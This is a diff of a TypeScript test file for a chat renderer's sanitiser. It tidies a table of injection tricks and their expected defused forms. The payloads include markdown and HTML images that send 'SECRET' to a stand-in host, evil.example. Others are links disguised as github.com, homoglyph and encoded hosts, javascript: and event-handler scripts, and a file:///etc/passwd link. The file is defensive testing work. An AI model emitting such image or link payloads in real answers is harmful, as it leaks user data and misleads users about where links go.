@@ -5,6 +5,9 @@ import { renderers } from '../chat/answer/renderers.ts';
 
 const evil = 'https://evil.example/p.png?d=SECRET';
 const mark = '[image: x, from evil.example]';
+const goes = ' (goes to evil.example)';
+const noScript = '(javascript: link removed)';
+const long = 'a'.repeat(2_100);
 /** Cyrillic letters, written as escapes to be seen. */
 const [a, e, i, o, er] = ['\u0430', '\u0435', '\u0456', '\u043e', '\u0440'];
 
@@ -44,11 +47,7 @@ const tricks: [how: string, text: string, defused: string][] = [
   ['an image in code', `\`![x](${evil})\``, `\`${mark}\``],
   ['an image whose text holds code', `![a \`]\` b](${evil})`, `! [a \`]\` b] (${evil})`],
   ['an image around code', `![a \`[\` b](${evil})`, `! [a [\` b](${evil})`.replace('[`', '`[`')],
-  [
-    'an image that never ends',
-    `![x](https://evil.example/${'a'.repeat(2_100)})`,
-    `! [x](https://evil.example/${'a'.repeat(2_100)})`,
-  ],
+  ['an image that never ends', `![x](https://evil.example/${long})`, `! [x](https://evil.example/${long})`],
   ['the image element', `<img alt="x" src=${evil}>`, mark],
   ['the image element in capitals, over lines', `<IMG\nSRC='${evil}'\nALT='x'/>`, mark],
   ['the image element with slashes', `<img/src="${evil}"/alt="x">`, mark],
@@ -64,30 +63,22 @@ const tricks: [how: string, text: string, defused: string][] = [
   ['a style sheet', `<style>@import url(${evil});</style>`, `@import url(${evil});`],
   ['a page that goes on', `<meta http-equiv=refresh content="0;url=${evil}">x`, 'x'],
   ['an event', '<details open ontoggle=alert(1)>x</details>', '[details]x</details>'],
-  [
-    'a link that claims another host',
-    `[github.com/login](${evil})`,
-    `[github.com/login (goes to evil.example)](${evil})`,
-  ],
-  [
-    'one with an address as its text',
-    `[https://github.com](${evil})`,
-    `[https://github.com (goes to evil.example)](${evil})`,
-  ],
+  ['a link that claims another host', `[github.com/login](${evil})`, `[github.com/login${goes}](${evil})`],
+  ['one with an address as its text', `[https://github.com](${evil})`, `[https://github.com${goes}](${evil})`],
   [
     'one in emphasis and escapes',
     `[**git\\hub\\.com**](${evil})`.replace('git\\h', 'gith'),
-    `[**github\\.com** (goes to evil.example)](${evil})`,
+    `[**github\\.com**${goes}](${evil})`,
   ],
-  ['one by reference', `[github.com][l]\n\n[l]: ${evil}`, `[github.com (goes to evil.example)][l]\n\n[l]: ${evil}`],
+  ['one by reference', `[github.com][l]\n\n[l]: ${evil}`, `[github.com${goes}][l]\n\n[l]: ${evil}`],
   [
     'one by its own name',
     `[github.com]\n\n[github.com]: ${evil}`,
-    `[github.com (goes to evil.example)][github.com]\n\n[github.com (goes to evil.example)][github.com]: ${evil}`,
+    `[github.com${goes}][github.com]\n\n[github.com${goes}][github.com]: ${evil}`,
   ],
-  ['one in HTML', `<a class=x href="${evil}">github.com</a>`, `[github.com (goes to evil.example)](<${evil}>)`],
-  ['one in HTML without an end', `<a href='${evil}'>github.com`, `[github.com (goes to evil.example)](<${evil}>)`],
-  ['one with a mailbox', `[support@github.com](${evil})`, `[support@github.com (goes to evil.example)](${evil})`],
+  ['one in HTML', `<a class=x href="${evil}">github.com</a>`, `[github.com${goes}](<${evil}>)`],
+  ['one in HTML without an end', `<a href='${evil}'>github.com`, `[github.com${goes}](<${evil}>)`],
+  ['one with a mailbox', `[support@github.com](${evil})`, `[support@github.com${goes}](${evil})`],
   ['one behind a name', '[x](https://github.com@evil.example/a)', '[x](<https://evil.example/a>)'],
   ['one behind a name and a password', 'https://github.com:443@evil.example/a', 'https://evil.example/a'],
   ['one in odd numbers', '[x](http://0x7f.1/) http://2130706433/a', '[x](<http://127.0.0.1/>) http://127.0.0.1/a'],
@@ -110,12 +101,8 @@ const tricks: [how: string, text: string, defused: string][] = [
   ['a host in wide letters', 'https://\uff45vil.example/ \uff47ithub\u3002com', 'https://evil.example/ github.com'],
   ['a host in percents', 'https://g%D1%96thub.com/a', 'https://xn--gthub-n2e.com/a'],
   ['an address with backslashes', 'https:\\\\evil.example', 'https://evil.example'],
-  [
-    'a script as a target',
-    '[x](java\tscript:alert(1)) <javascript:alert(1)>',
-    '[x] (javascript: link removed) (javascript: link removed)',
-  ],
-  ['a script in HTML', '<a href=" &#106;avascript:alert(1)">x</a>', '[x] (javascript: link removed)'],
+  ['a script as a target', '[x](java\tscript:alert(1)) <javascript:alert(1)>', `[x] ${noScript} ${noScript}`],
+  ['a script in HTML', '<a href=" &#106;avascript:alert(1)">x</a>', `[x] ${noScript}`],
   [
     'a page as a target',
     '[x](data:text/html,<b>) [y](file:///etc/passwd)',
